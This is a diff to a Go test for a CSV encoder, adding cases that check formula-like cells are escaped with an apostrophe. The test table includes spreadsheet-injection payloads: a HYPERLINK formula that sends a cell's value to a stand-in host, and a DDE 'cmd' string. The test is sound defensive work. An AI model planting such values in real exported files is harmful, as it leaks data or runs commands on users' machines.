@@ -23,7 +23,13 @@ func TestAppendString(t *testing.T) {
 }
 
 func TestAppendCSV(t *testing.T) {
-	for in, want := range map[string]string{"a": "a", "a,b": `"a,b"`, `say "hi"`: `"say ""hi"""`, "=SUM(A1)": `"=SUM(A1)"`, "l\nf": "\"l\nf\""} {
+	for in, want := range map[string]string{"a": "a", "a,b": `"a,b"`, `say "hi"`: `"say ""hi"""`, "l\nf": "\"l\nf\"",
+		// A spreadsheet evaluates a quoted formula too: each is marked as
+		// text with an apostrophe.
+		"=SUM(A1)": `"'=SUM(A1)"`, `=HYPERLINK("http://x/?"&A1)`: `"'=HYPERLINK(""http://x/?""&A1)"`,
+		"-2+3+cmd|' /C calc'!A0": `"'-2+3+cmd|' /C calc'!A0"`, "+1": `"'+1"`, "@SUM(1)": `"'@SUM(1)"`,
+		"\t=1+2": "\"'\t=1+2\"", "\r=1+2": "\"'\r=1+2\"", "a=1": "a=1",
+	} {
 		if got := string(appendCSV(nil, in)); got != want {
 			t.Errorf("%q: %s, want %s", in, got, want)
 		}
